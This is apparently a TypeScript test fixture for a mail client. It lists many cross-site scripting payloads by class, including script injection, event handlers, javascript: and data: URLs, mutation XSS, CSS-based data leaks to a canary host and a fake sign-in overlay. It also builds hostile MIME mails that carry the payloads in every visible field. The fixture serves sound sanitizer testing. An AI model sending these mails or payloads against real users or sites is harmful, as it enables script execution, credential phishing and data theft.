// Mails made to run, fetch, cover, leak or lead away: the public classes of cross-site scripting in mail. Each calls `pwned`,
// or asks the canary, by one way more. `CANARY` stands for a listener that nobody has reason to ask.

const run = "pwned('run')";
/** A picture that is never there. */
const none = "x:x";

/** One attack each, by the class that it belongs to. */
export const attacks: Record<string, string[]> = {
  script: [
    `<script>${run}</script>`,
    `<ScRiPt src=CANARY/a.js></sCrIpT>`,
    `<script\n>${run}</script\n>`,
    `<<script>${run}//<</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script type="module">import "CANARY/m.js"; ${run}</script>`,
    `<script src="data:text/javascript,${run}"></script>`,
    `<noscript><script>${run}</script></noscript>`,
  ],
  handlers: [
    `<img src=${none} onerror="${run}">`,
    `<img src="${none}" onerror = '${run}' >`,
    `<img src=${none} oNeRrOr=${run}>`,
    `<img/src=${none}/onerror=${run}>`,
    `<body onload="${run}"><p>body</p></body>`,
    `<div onmouseover="${run}" onpointerenter="${run}" style="width:4000px;height:4000px">over</div>`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<input autofocus onfocus="${run}">`,
    `<video src=${none} onerror="${run}" autoplay></video><audio src=CANARY/a.mp3 autoplay></audio>`,
    `<marquee onstart="${run}">x</marquee>`,
    `<p style="animation:x 1s" onanimationstart="${run}">x</p><style>@keyframes x{}</style>`,
    `<a href="#" onclick="${run}" onfocusin="${run}" tabindex=0 autofocus>x</a>`,
  ],
  addresses: [
    `<a href="javascript:${run}">x</a>`,
    `<a href=" java\nscript:${run}">x</a>`,
    `<a href="&#x6a;avascript&colon;${run}">x</a>`,
    `<a href="\u0001javascript:${run}">x</a>`,
    `<a href="vbscript:${run}">x</a>`,
    `<a href="data:text/html,<script>${run}</script>" target=_self>x</a>`,
    `<img src="javascript:${run}">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
    `<a xlink:href="javascript:${run}" href="blob:CANARY/1">x</a>`,
  ],
  foreign: [
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
    `<svg><use href="CANARY/u.svg#x"></use><image href="CANARY/i.png"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
    `<math><mtext><img src=${none} onerror="${run}"></mtext></math>`,
    `<math href="javascript:${run}">x</math>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=${none} onerror=${run}>">`,
    `<style><p title="</style><img src=${none} onerror=${run}>"></style>`,
    `<template><p title="</template><img src=${none} onerror=${run}>"></template>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=${none} onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=${none} onerror=${run}>`,
    `<title><p title="</title><img src=${none} onerror=${run}>"></title>`,
    `<textarea><img title="</textarea><img src=${none} onerror=${run}>"></textarea>`,
    `<xmp><p title="</xmp><img src=${none} onerror=${run}>"></xmp>`,
    `<!--><img src=${none} onerror=${run}>--><!--!><img src=${none} onerror=${run}>-->`,
    `<![CDATA[><img src=${none} onerror=${run}>]]>`,
    `<select><style></select><img src=${none} onerror=${run}></style></select>`,
    `<p id="</details><script>${run}</script>" class="mail-quote</style>">x</p>`,
    `<details class="mail-quote"><summary></summary><script>${run}</script></details>`,
  ],
  leading: [
    `<meta http-equiv="refresh" content="0;url=CANARY/refresh">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
    `<base href="CANARY/"><a href="x">x</a><img src="rel.png">`,
    `<form action="CANARY/form" id=f><input name=p value=1><button autofocus>Sign in</button></form>`,
    `<form><button formaction="javascript:${run}">x</button><input type=image src=CANARY/b.png></form>`,
    `<iframe src="CANARY/frame"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<frameset><frame src="javascript:parent.${run}"></frameset>`,
    `<object data="CANARY/o"></object><embed src="CANARY/e"><applet code=x archive=CANARY/j></applet>`,
    `<portal src="CANARY/portal"></portal><fencedframe></fencedframe>`,
  ],
  fetching: [
    `<link rel=stylesheet href="CANARY/s.css">`,
    `<link rel=prefetch href="CANARY/p"><link rel=preload as=image href="CANARY/l"><link rel=dns-prefetch href="//canary.invalid">`,
    `<link rel=icon href="CANARY/icon.ico"><link rel=manifest href="CANARY/m.json">`,
    `<img srcset="CANARY/1.png 1x, CANARY/2.png 2x" src="CANARY/0.png"><picture><source srcset="CANARY/3.png"><img></picture>`,
    `<img src="//canary.invalid/a.png"><img src="CANARY/lazy.png" loading=lazy>`,
    `<table background="CANARY/t.png"><tr><td background="CANARY/d.png">x</td></tr></table>`,
    `<body background="CANARY/body.png"><p>x</p></body>`,
    `<a href="CANARY/ping" ping="CANARY/ping2">x</a>`,
    `<video poster="CANARY/poster.png"><source src="CANARY/v.mp4"><track src="CANARY/t.vtt" default></video>`,
  ],
  styles: [
    `<style>@import url(CANARY/import.css); body{background:url(CANARY/bg.png)}</style>`,
    `<div style="background:url(CANARY/u.png)">x</div>`,
    `<div style="background-image:u\\72l(CANARY/esc.png)">x</div>`,
    `<div style="background:/**/url('CANARY/c.png');list-style:url(CANARY/l.png);cursor:url(CANARY/k.cur),auto">x</div>`,
    `<div style="width:expression(${run});behavior:url(CANARY/b.htc);-moz-binding:url(CANARY/x.xml#x)">x</div>`,
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#f00">Your session has ended. Sign in again.</div>`,
    `<div style="position:absolute;top:-500px;margin-top:-900px;transform:scale(40)">over</div>`,
    `<style>*{display:none!important} h1,.topbar,body{background:#f0f!important;color:#0f0!important}</style>`,
    `<style>@font-face{font-family:x;src:url(CANARY/f.woff)} p{font-family:x} input[value^=a]{background:url(CANARY/leak-a)}</style><p>x</p>`,
    `<style>:root{--accent:red;filter:invert(1)} @media print{*{content:url(CANARY/print)}}</style>`,
    `<p style="color:red;}body{display:none">x</p>`,
    `<div class="toast shell topbar" id="main"><div id="toasts" class="rail">x</div></div>`,
    `<div style="background-image:image-set('CANARY/set.png' 1x);content:url(CANARY/content.png)">x</div>`,
  ],
  disguise: [
    `\u202e<img src=${none} onerror=${run}>\u202c`,
    `<img\u0000src=${none}\u0000onerror=${run}>`,
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `<img src=${none} onerror=\u2028${run}>`,
    `&lt;script&gt;${run}&lt;/script&gt;&#60;img src=x onerror=${run}&#62;`,
    `"><img src=${none} onerror=${run}>`,
    `' autofocus onfocus='${run}`,
    `</title></textarea></style></noscript></template></script><script>${run}</script>`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
  ],
  markdown: [
    `[x](javascript:${run})`,
    `[x](data:text/html,<script>${run}</script>) ![x](CANARY/md.png)`,
    `<a href="javascript:${run}">x</a> **<img src=${none} onerror=${run}>**`,
    `[x]: javascript:${run}\n\n[x] ![a](CANARY/a.png "onerror=${run}")`,
    "```html\n<script>pwned('run')</script>\n```\n<CANARY/auto>",
  ],
};

/** All of them, in order, each with its class and asking this listener. */
export function against(canary: string): { kind: string; attack: string }[] {
  return Object.entries(attacks).flatMap(([kind, list]) => list.map((attack) => ({ kind, attack: attack.replaceAll("CANARY", canary) })));
}

const word = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
const body = (text: string): string => (Buffer.from(text).toString("base64").match(/.{1,76}/g) ?? []).join("\r\n");

/** A mail in which everything that a reader is shown is the attack: subject, name, words, HTML, and the name of a file. */
export function hostile(attack: string, sender: string, to: string, id: string): string {
  const part = (type: string, text: string, more: string[] = []): string[] => [
    "--b",
    `Content-Type: ${type}`,
    ...more,
    "Content-Transfer-Encoding: base64",
    "",
    body(text),
  ];
  const line = attack.replaceAll(/[\r\n]/g, " ");
  return [
    `From: ${word(line)} <${sender}>`,
    `To: <${to}>`,
    `Subject: ${word(line)}`,
    `Message-ID: <${id}>`,
    `Date: ${new Date().toUTCString().replace("GMT", "+0000")}`,
    "MIME-Version: 1.0",
    "Content-Type: multipart/mixed; boundary=b",
    "",
    "--b",
    "Content-Type: multipart/alternative; boundary=a",
    "",
    ...part("text/plain; charset=utf-8", `${attack}\n\n${"plain words, so that they count. ".repeat(12)}`).map((l) => (l === "--b" ? "--a" : l)),
    ...part("text/html; charset=utf-8", `<p>before</p>${attack}<p>after</p>`).map((l) => (l === "--b" ? "--a" : l)),
    "--a--",
    ...part(`text/html; name="${word(`${line}.html`)}"`, `<script>pwned('file')</script>${attack}`, [
      `Content-Disposition: attachment; filename="${word(`${line}.html`)}"`,
    ]),
    ...part("image/svg+xml; name=a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="pwned('svg')"/>`, [
      "Content-Disposition: attachment; filename=a.svg",
    ]),
    "--b--",
    "",
  ].join("\r\n");
}
